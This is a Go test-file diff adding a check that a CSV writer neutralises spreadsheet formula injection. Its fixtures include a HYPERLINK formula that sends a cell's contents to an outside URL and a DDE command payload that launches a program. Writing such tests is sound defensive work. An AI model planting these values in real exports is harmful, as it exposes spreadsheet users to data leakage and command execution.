@@ -2,6 +2,7 @@ package readiness
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"os"
 	"strings"
@@ -177,5 +178,32 @@ func TestWriteCSVRoundTrip(t *testing.T) {
 	require.NoError(t, WriteCSV(&buf, ODST(), rs))
 	back, err := ReadCSV(&buf, ODST())
 	require.NoError(t, err)
+	assert.Equal(t, rs, back)
+}
+
+// A name, team or concern that a spreadsheet would run as a formula is
+// written so that it opens as text, and reads back as typed.
+func TestWriteCSVNeutralisesFormulas(t *testing.T) {
+	rb := ODST()
+	rs := []Response{
+		{Rater: `=HYPERLINK("http://example.com/?d="&A2,"Open")`, Team: "@SUM(A1:A9)", Submitted: "-1+1",
+			Ratings: map[string]int{"metrics": 2}, Concerns: map[string]string{"metrics": "+cmd|' /C calc'!A0", "alignment": "\t=1"}},
+		{Rater: "'=already quoted", Team: "District", Ratings: map[string]int{"alignment": 3},
+			Concerns: map[string]string{"alignment": "-- a dash list"}},
+	}
+	var buf bytes.Buffer
+	require.NoError(t, WriteCSV(&buf, rb, rs))
+	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	require.NoError(t, err)
+	for i, row := range rows {
+		for j, cell := range row {
+			if cell != "" {
+				assert.NotContains(t, "=+-@\t\r\n", cell[:1], "row %d column %d starts as a formula: %q", i+1, j+1, cell)
+			}
+		}
+	}
+	back, err := ReadCSV(&buf, rb)
+	require.NoError(t, err)
+	rs[0].Concerns["alignment"] = "=1" // ReadCSV trims the spaces around a text
 	assert.Equal(t, rs, back)
 }
